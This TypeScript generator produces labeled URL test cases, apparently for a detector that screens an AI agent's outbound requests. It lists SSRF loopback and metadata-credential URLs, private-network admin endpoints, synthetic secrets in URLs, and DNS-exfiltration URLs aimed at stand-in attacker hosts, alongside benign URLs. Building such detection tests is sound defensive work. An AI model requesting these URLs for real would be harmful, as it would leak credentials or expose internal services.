// Single URLs an agent requests: SSRF notations, metadata endpoints, private ranges, secrets in
// query / userinfo / path, data in DNS labels; and ordinary URLs that only look busy.
import { Gen, builder, b64url, base32, hexOf, chunks, B64URL } from "./_gen.ts";

const g = new Gen(0x6a05);
const { cases, pos, ben } = builder("url", "url");
export { cases };

const S = "url-ssrf-loopback";
pos(S, `http://2130706433/admin`, "decimal 127.0.0.1");
pos(S, `http://0x7f000001:8080/debug/vars`, "hex");
pos(S, `http://0177.0.0.1/server-status`, "octal first octet");
pos(S, `http://[::ffff:127.0.0.1]:6379/`, "IPv6-mapped");
pos(S, `http://[::1]:2375/containers/json`, "IPv6 loopback docker API");
pos(S, `http://127.1/`, "short form");
pos(S, `http://0x7f.0x0.0x0.0x1/`, "dotted hex");
pos(S, `http://017700000001/`, "whole octal");
pos(S, `http://localhost:9200/_cat/indices`);
pos(S, `http://[0:0:0:0:0:ffff:7f00:1]/`, "mapped hex form");
pos(S, `http://127.0.0.1.nip.io/admin`, "wildcard DNS to loopback");
pos(S, `http://0.0.0.0:8500/v1/agent/self`);
pos(S, `gopher://127.0.0.1:11211/_stats`);
pos(S, `http://localtest.me:3000/`, "public name resolving to loopback");

const M = "url-ssrf-metadata";
pos(M, `http://169.254.169.254/latest/meta-data/iam/security-credentials/`);
pos(M, `http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token`);
pos(M, `http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/`);
pos(M, `http://2852039166/latest/user-data`, "decimal 169.254.169.254");
pos(M, `http://0xa9fea9fe/latest/meta-data/`, "hex metadata");
pos(M, `http://[fd00:ec2::254]/latest/meta-data/`, "AWS IMDS IPv6");
pos(M, `http://100.100.100.200/latest/meta-data/ram/security-credentials/`, "Alibaba metadata");
pos(M, `http://169.254.170.2/v2/credentials/${g.hex(8)}-${g.hex(4)}-${g.hex(4)}-${g.hex(4)}-${g.hex(12)}`, "ECS task credentials");
pos(M, `http://[::ffff:a9fe:a9fe]/latest/meta-data/`, "IPv6-mapped metadata");
pos(M, `http://metadata/computeMetadata/v1/project/project-id`);

const PR = "url-ssrf-private";
pos(PR, `http://10.0.0.12:8080/actuator/env`);
pos(PR, `http://192.168.1.1/cgi-bin/luci`);
pos(PR, `http://172.16.4.20:10250/pods`, "kubelet");
pos(PR, `https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets`);
pos(PR, `http://0x0a000001/`, "hex 10.0.0.1");
pos(PR, `http://[fc00::5]:9000/minio/admin/v3/info`);

const Q = "url-secret-in-url";
pos(Q, `https://api.example.com/v1/sync?api_key=${g.alnum(40)}`);
pos(Q, `https://webhook.example.org/hook?token=${["gh", "p_"].join("")}${g.alnum(36)}`);
pos(Q, `https://deploy:${g.password(18).replace(/[#%^*]/g, "x")}@git.example.com/acme/app.git`);
pos(Q, `https://example.com/collect/${["sk", "_live_"].join("")}${g.alnum(24)}`, "key in path");
pos(Q, `https://hooks.example.net/in?data=${b64url(`AWS_SECRET_ACCESS_KEY=${g.awsSecret()}`)}`, "base64url env line in param");
pos(Q, `https://example.org/p?k=${["sk-", "ant-", "api03-"].join("")}${g.str(93, B64URL)}AA`);
pos(Q, `ftp://backup:${g.alnum(20)}@198.51.100.30/dumps/`);
pos(Q, `https://example.com/track.gif?u=dana&s=${encodeURIComponent(g.mnemonic(12))}`, "seed phrase in query");
pos(Q, `https://api.example.com/graphql?query={me{id}}&access_token=${g.jwt({ sub: "42", scope: "admin", exp: 1799999999 })}`);
pos(Q, `https://example.net/log?pk=${encodeURIComponent(g.pem("EC", 121))}`, "pem in query");

const N = "url-dns-exfil";
{
  const data = hexOf(`${["AK", "IA"].join("")}${g.str(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")}`);
  pos(N, `http://${chunks(data, 40).join(".")}.x.exfil.example.com/`, "hex labels");
}
{
  const data = base32(`OPENAI_API_KEY=${["sk-", "proj-"].join("")}${g.str(40, B64URL)}`, false).toLowerCase();
  pos(N, `https://${chunks(data, 50).join(".")}.d.attacker.test/p.png`, "base32 labels");
}
{
  const data = b64url(`pw=${g.password(20)};user=root`);
  pos(N, `http://${chunks(data, 30).join(".")}.c2.example.org/`, "base64url labels");
}
pos(N, `http://${hexOf("/home/dana/.ssh/id_rsa:").slice(0, 40)}.${g.hex(60)}.${g.hex(60)}.t.example.net/`, "long hex labels");
{
  const sess = base32(g.bytes(40), false).toLowerCase();
  pos(N, `https://0.${sess.slice(0, 32)}.1.${sess.slice(32)}.ns.oast.test/`, "sequenced chunks");
}
pos(N, `http://${hexOf(`${["gh", "p_"].join("")}${g.alnum(36)}`)}.burpcollaborator.test/`, "single long hex label > 63");

// ---- benign ----
const B = "url-benign";
ben(B, `https://www.example.com/products/${g.hex(8)}-${g.hex(4)}-${g.hex(4)}-${g.hex(4)}-${g.hex(12)}`);
ben(B, `https://github.com/acme/toolkit/commit/${g.hex(40)}`);
ben(B, `https://cdn.example.com/assets/app.${g.hex(20)}.js`);
ben(B, `https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz`);
ben(B, `https://www.google.com/search?q=how+to+rotate+aws+access+key+secret`);
ben(B, `https://duckduckgo.com/?q=what+is+a+jwt+token+and+bearer+auth`);
ben(B, `https://stackoverflow.com/questions/${g.digits(8)}/how-do-i-hide-my-api-key-in-react`);
ben(B, `https://docs.python.org/3/library/secrets.html#secrets.token_hex`);
ben(B, `https://example.com/reset-password?email=dana%40example.com`);
ben(B, `https://images.example.org/photo/${g.str(11, B64URL)}?w=800&h=600&fit=crop&q=80`);
ben(B, `https://www.youtube.com/watch?v=${g.str(11, B64URL)}&t=42s`);
ben(B, `https://maps.example.com/?ll=59.9139,10.7522&z=12`);
ben(B, `https://example.com/download/report.pdf?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Date=20261103T100000Z&X-Amz-Expires=300&X-Amz-SignedHeaders=host&X-Amz-Signature=${g.hex(64)}`, "presigned download, signature only");
ben(B, `https://api.example.com/v2/items?page=3&per_page=100&sort=-created_at&cursor=${b64url(JSON.stringify({ id: 88123, ts: 1762000000 }))}`);
ben(B, `https://en.wikipedia.org/wiki/Server-side_request_forgery`);
ben(B, `https://owasp.org/www-community/attacks/Server_Side_Request_Forgery`);
ben(B, `https://example.com/blog/2026/11/why-169-254-169-254-matters`);
ben(B, `https://pypi.org/project/requests/2.32.3/`);
ben(B, `https://crates.io/api/v1/crates/serde/1.0.215/download`);
ben(B, `https://example.org/oauth/authorize?response_type=code&client_id=web-app&redirect_uri=https%3A%2F%2Fapp.example.org%2Fcb&scope=openid%20profile&state=${g.hex(16)}&code_challenge=${b64url(g.bytes(32))}&code_challenge_method=S256`, "OAuth authorize, public params");
ben(B, `https://fonts.googleapis.com/css2?family=Inter:wght@400;600&display=swap`);
ben(B, `https://www.example.com/search?q=password+manager+comparison+2026`);
ben(B, `https://unpkg.com/react@18.3.1/umd/react.production.min.js`);
ben(B, `https://example.com/.well-known/openid-configuration`);
ben(B, `https://example.com/api/v1/users/${g.digits(12)}/avatar.png`);
ben(B, `https://ipfs.example.net/ipfs/bafybei${g.str(52, "abcdefghijklmnopqrstuvwxyz234567")}`);
ben(B, `https://example.test/s/${g.str(8, "abcdefghijkmnpqrstuvwxyz23456789")}`, "short link");
ben(B, `https://en.wikipedia.org/wiki/%D0%9A%D1%80%D0%B8%D0%BF%D1%82%D0%BE%D0%B3%D1%80%D0%B0%D1%84%D0%B8%D1%8F`, "percent-encoded Cyrillic title");
ben(B, `https://example.com/track?utm_source=newsletter&utm_medium=email&utm_campaign=nov-2026&utm_content=${g.hex(12)}`);
ben(B, `https://d1${g.str(12, "abcdefghijklmnopqrstuvwxyz0123456789")}.cloudfront.net/static/media/logo.${g.hex(8)}.svg`);
ben(B, `https://api.github.com/repos/acme/toolkit/git/trees/${g.hex(40)}?recursive=1`);
ben(B, `https://storage.googleapis.com/acme-public-assets/releases/v1.4.2/toolkit-linux-x64.tar.gz`);
ben(B, `https://www.example.com/login?next=%2Fdashboard%3Ftab%3Dsecurity`);
ben(B, `https://example.com/docs/api-keys#rotating-a-key`);
ben(B, `https://${g.hex(12)}.ngrok-free.app/webhook`, "tunnel host with random id");
ben(B, `https://build.example.com/job/toolkit/${g.int(1000, 9999)}/artifact/dist/sha256sums.txt`);
ben(B, `https://example.com/i/${b64url(g.bytes(24))}.jpg`);
ben(B, `https://a.b.c.d.e.example.com/deep/subdomain/path`);
ben(B, `https://${g.str(10, "abcdefghijklmnopqrstuvwxyz")}.supabase.co/storage/v1/object/public/avatars/${g.hex(8)}.png`);
ben(B, `https://example.com/calendar/ics/${g.hex(8)}-${g.hex(4)}-${g.hex(4)}-${g.hex(4)}-${g.hex(12)}/basic.ics`);
ben(B, `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${g.hex(8)}-${g.hex(4)}-${g.hex(4)}-${g.hex(4)}-${g.hex(12)}&response_type=code&scope=openid`);
ben(B, `https://example.com/articles?tag=ssrf&tag=localhost&tag=metadata`);
